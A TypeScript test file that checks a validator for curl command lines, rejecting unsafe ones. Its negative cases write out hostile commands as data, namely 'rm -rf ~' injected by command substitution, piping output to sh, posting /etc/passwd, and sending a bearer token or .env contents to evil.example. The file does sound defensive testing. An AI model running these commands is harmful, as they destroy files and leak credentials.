import { describe, expect, test } from 'vitest';
import { curlFor } from '../plan/curl.ts';
import { peopleOf } from '../plan/people.ts';
import { contract, planWith, settingsWith } from '../testing/small-world.ts';
import { isCommandLine, variablesIn } from './command-line.ts';

const settings = settingsWith({ CONFORMANCE_EXTRA_HEADERS: '{"X-`id`-$HOME": "x"}' });
const people = peopleOf(settings.variables, 'test');

test('every command line of a plan is one, also with an odd header', () => {
  const parts = { contract, people, common: [], unknownToken: 'x' };
  const lines = [...planWith().cases.values()].map((planned) => curlFor(parts, settings, planned));
  expect(lines.length).toBeGreaterThan(100);
  expect(lines.filter((line) => !isCommandLine(line))).toEqual([]);
});

describe('a command line of a journal', () => {
  test.each([
    `curl -sS -i -X POST "$TARGET_BASE_URL/search" -H "A: \\"\\\`b" --data-raw $'{\\'\\n'`,
    `printf $'GET /%% HTTP/1.1\\r\\n\\r\\n' | nc <host and port of TARGET_BASE_URL>`,
    `curl -sS -i "https://login.example/.well-known/openid-configuration" -H "Accept: application/json"`,
    `curl -sS -i --http1.0 -X POST "$TARGET_BASE_URL/search?q=$(printf '%500s' | tr ' ' a)" --data-raw $'{}'`,
    `printf $'{\\'}' | gzip | curl -sS -i -X POST "$TARGET_BASE_URL/search" -H "Content-Encoding: gzip" --data-binary @-`,
    `curl -sS -i -X POST "https://login.example/reg" -H 'Content-Type: application/json' -d '{"scope":"MCP"}'`,
    `curl -sS -i -X GET -g "https://login.example/[1-9]?{a,b}" -H "X: a"'!'"b"`,
    `curl -sS -i -X GET -g "$TARGET_BASE_URL/search?q[]={\${USER_TOKEN:0:4}}"`,
    `curl -sS -i -X POST "$MCP_URL" -H "Authorization: Bearer $USER_TOKEN"`,
  ])('can be %s', (line) => {
    expect(isCommandLine(line)).toBe(true);
  });

  test.each([
    'rm -rf ~',
    'curl -sS -i "$TARGET_BASE_URL"; rm -rf ~',
    'curl -sS -i "$TARGET_BASE_URL" | sh',
    `curl -sS -i "$TARGET_BASE_URL/$(printf '%5s' | sh)"`,
    `printf $'{}' | gzip | curl -sS -i -X POST "$TARGET_BASE_URL/search" --data-binary @/etc/passwd`,
    'curl -sS -i "$TARGET_BASE_URL/$(rm -rf ~)"',
    'curl -sS -i "$TARGET_BASE_URL/`rm -rf ~`"',
    'curl -sS -i $(rm -rf ~)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a line for bash.
    'curl -sS -i "$TARGET_BASE_URL/${A:-$(rm -rf ~)}"',
    'curl -sS -i "$TARGET_BASE_URL/$[$(rm)]"',
    'curl -sS -i "x" & rm -rf ~',
    'curl -sS -i "x"\nrm -rf ~',
    'curl -sS -i <(rm -rf ~)',
    'curl -sS -i "unfinished',
    "curl -sS -i 'x\\'; rm -rf ~ #'",
    'curl -sS -i "https://evil.example" -H "Authorization: Bearer $USER_TOKEN"',
    'curl -sS -i "$TARGET_BASE_URL@evil.example"',
    'curl -sS -i "$MCP_URL/../evil"',
    'curl -sS -i "$MCP_URL@evil.example"',
    'curl -sS -i "$TARGET_BASE_URL/" -o .bashrc',
    'curl -sS -i "$TARGET_BASE_URL/" -d \'@.env\'',
    'curl -sS -i "$TARGET_BASE_URL/" -H "@.env"',
    'curl -sS -i "$TARGET_BASE_URL/" -H "\\\n@.env"',
    `curl -sS -i "$TARGET_BASE_URL/" -H 'A: b\n!!'`,
    'curl -sS -i "$TARGET_BASE_URL/" -H "A: !!"',
    'curl -sS -i "https://login.example/!!"',
    'curl -sS -i "https://login.example/" -H "A: !-2"',
    'curl -sS -i "https://login.example/[1-1000000]"',
    'curl -sS -i "https://login{1,2}.example/"',
    'curl -sS -i "$TARGET_BASE_URL/{1,2}"',
    '',
  ])('cannot be %j', (line) => {
    expect(isCommandLine(line)).toBe(false);
  });
});

test('a long line that is none is read in linear time', () => {
  for (const part of ['$aaaaaaaaaaaa', '$A', '\\\\', "'\\\\''", `"'!'"`, "$(printf '%5s' | tr ' ' a)", '{'])
    for (const line of ['curl -sS -i "$TARGET_BASE_URL/', `curl -sS -i "https://login.example/" -d '`])
      expect(isCommandLine(`${line}${part.repeat(20_000)}\u0060`)).toBe(false);
});

test('the variables of a line are those that a shell expands', () => {
  const line = `curl -sS -i "$TARGET_BASE_URL/\\$A" -H "X: $USER_TOKEN\${B_1:0:4}\${C#*@} \\\\$D" -d '\\' -H "$E"`;
  expect(variablesIn(line)).toEqual(['TARGET_BASE_URL', 'USER_TOKEN', 'B_1', 'C', 'D', 'E']);
});
